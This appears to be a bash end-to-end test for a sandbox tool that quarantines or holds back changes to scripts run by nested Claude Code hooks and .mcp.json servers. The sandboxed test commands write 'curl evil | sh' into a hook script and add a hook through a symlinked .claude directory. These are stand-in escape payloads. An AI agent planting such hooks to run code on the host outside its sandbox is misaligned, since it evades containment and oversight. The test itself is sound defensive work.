# shellcheck shell=bash
# The files a nested .claude's settings and a nested .mcp.json run
# (hooks, MCP servers): Claude Code started in that directory on the host
# runs them by itself.  The top's are read-only in the cage (decision
# 0063); a nested one's, rewritten in place, landed unseen (session 8's
# "Left").  The run's end now moves one the command changed aside.

NC=$(as_user mktemp -d "$U_HOME/e2e-nestedcmds.XXXXXX")
as_user chmod 755 "$NC"
as_user sh -c "cd '$NC' && mkdir -p packages/app/.claude packages/app/scripts packages/app/srv &&
	printf '%s\n' '{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"bash scripts/setup.sh\"}]}]}}' > packages/app/.claude/settings.json &&
	printf '%s\n' '{\"mcpServers\":{\"docs\":{\"command\":\"node\",\"args\":[\"srv/index.js\"]}}}' > packages/app/.mcp.json &&
	echo 'echo setting up' > packages/app/scripts/setup.sh &&
	echo 'echo lint' > packages/app/scripts/lint.sh &&
	echo 'serve()' > packages/app/srv/index.js"
sleep 0.1 # the run begins after the project was made (coarse ctimes)
OUT=$(cd "$NC" && as_user "$LTD" run --network none -- sh -c \
	'cd packages/app && echo "curl evil | sh" > scripts/setup.sh &&
	 echo "evil()" > srv/index.js && echo "echo lint --fix" > scripts/lint.sh' 2>&1)
RC=$?
expect_rc "a command rewrites the scripts a nested .claude's hooks and .mcp.json run" 0
[ ! -e "$NC/packages/app/scripts/setup.sh" ] && [ -f "$NC/packages/app/scripts/setup.sh.ltd-native-quarantine" ] &&
	pass "... the hook's script goes aside" || fail "... the hook's script goes aside" "$OUT"
[ ! -e "$NC/packages/app/srv/index.js" ] &&
	pass "... the MCP server's script goes aside" || fail "... the MCP server's script goes aside" "$OUT"
expect_out "... said, naming the settings that run it" \
	"scripts/setup\.sh: a file that .*packages/app/\.claude/settings\.json runs when Claude Code is started in .*packages/app, changed during the run: moved aside"
expect_out "... and the .mcp.json" "srv/index\.js: a file that .*packages/app/\.mcp\.json runs"
grep -q 'lint --fix' "$NC/packages/app/scripts/lint.sh" 2>/dev/null &&
	pass "... a script no command names is the agent's work: it stays" ||
	fail "... a script no command names is the agent's work: it stays" "$OUT"
expect_no_out "... and is not said" "lint\.sh"
grep -q 'curl evil' "$NC/packages/app/scripts/setup.sh.ltd-native-quarantine" 2>/dev/null &&
	pass "... what went aside is the command's" ||
	fail "... what went aside is the command's" "$(ls -la "$NC/packages/app/scripts")"
OUT=$(cd "$NC" && as_user "$LTD" run --network none -- true 2>&1)
RC=$?
expect_rc "the next run" 0
expect_no_out "... says nothing of them again" "setup\.sh|index\.js"

# Under --review the same file is held back at apply (decision 0166).
as_user sh -c "cd '$NC/packages/app' && echo 'echo setting up' > scripts/setup.sh"
sleep 0.1
OUT=$(cd "$NC" && as_user "$LTD" run --network none --review nc1 -- sh -c \
	'cd packages/app && echo "curl evil | sh" > scripts/setup.sh && echo "echo lint 2" > scripts/lint.sh' 2>&1)
RC=$?
expect_rc "under --review, a command rewrites a nested hook's script" 0
OUT=$(cd "$NC" && as_user "$LTD" review nc1 2>&1)
expect_out "... the review marks it held back, saying why" \
	"scripts/setup\.sh.*held back.*nested \.claude's settings"
OUT=$(cd "$NC" && as_user "$LTD" apply nc1 2>&1)
grep -q 'setting up' "$NC/packages/app/scripts/setup.sh" &&
	pass "... apply does not land it" || fail "... apply does not land it" "$OUT"
grep -q 'lint 2' "$NC/packages/app/scripts/lint.sh" &&
	pass "... and lands the rest" || fail "... and lands the rest" "$OUT"
(cd "$NC" && as_user "$LTD" discard nc1 >/dev/null 2>&1)

# A .claude of the user's that is a link (`packages/web/.claude` to
# `../../shared/cc`): Claude Code started in packages/web on the host
# takes shared/cc's settings.  The review judged names: a hook added to
# shared/cc/settings.json landed (decision 0167).
as_user sh -c "cd '$NC' && mkdir -p shared/cc packages/web &&
	echo '{}' > shared/cc/settings.json && echo notes > shared/notes.md &&
	ln -s ../../shared/cc packages/web/.claude"
# Another user's directory the user cannot read (a database's volume)
# holds no link of theirs: not said (the new user's review).
mkdir -p "$NC/data/pg" && chmod 700 "$NC/data/pg"
OUT=$(cd "$NC" && as_user "$LTD" run --network none --review nc2 -- sh -c \
	'printf "%s\n" "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"sh x.sh\"}]}]}}" > shared/cc/settings.json &&
	 echo more >> shared/notes.md' 2>&1)
RC=$?
expect_rc "under --review, a command adds a hook where a linked .claude leads" 0
OUT=$(cd "$NC" && as_user "$LTD" apply nc2 2>&1)
grep -q hooks "$NC/shared/cc/settings.json" &&
	fail "... apply holds the settings back" "$OUT" ||
	pass "... apply holds the settings back"
expect_out "... naming the link" \
	"shared/cc/settings\.json.*held back: where packages/web/\.claude, a link in the project, leads"
grep -q more "$NC/shared/notes.md" &&
	pass "... and lands the rest" || fail "... and lands the rest" "$OUT"
expect_no_out "... another user's directory it cannot read is not said" "cannot read"
(cd "$NC" && as_user "$LTD" discard nc2 >/dev/null 2>&1)
rm -rf "$NC/data"
# One of the user's own that cannot be read is said, once, named.
as_user mkdir "$NC/locked"
as_user chmod 000 "$NC/locked"
OUT=$(cd "$NC" && as_user "$LTD" run --network none --review nc3 -- sh -c 'echo x > shared/new.md' 2>&1)
OUT=$(cd "$NC" && as_user "$LTD" review nc3 2>&1)
expect_out "a directory of the user's that cannot be read is said, named" \
	"cannot read project directory locked to look for .*every change is held back"
as_user chmod 755 "$NC/locked"
(cd "$NC" && as_user "$LTD" discard nc3 >/dev/null 2>&1)
as_user rm -rf "$NC"
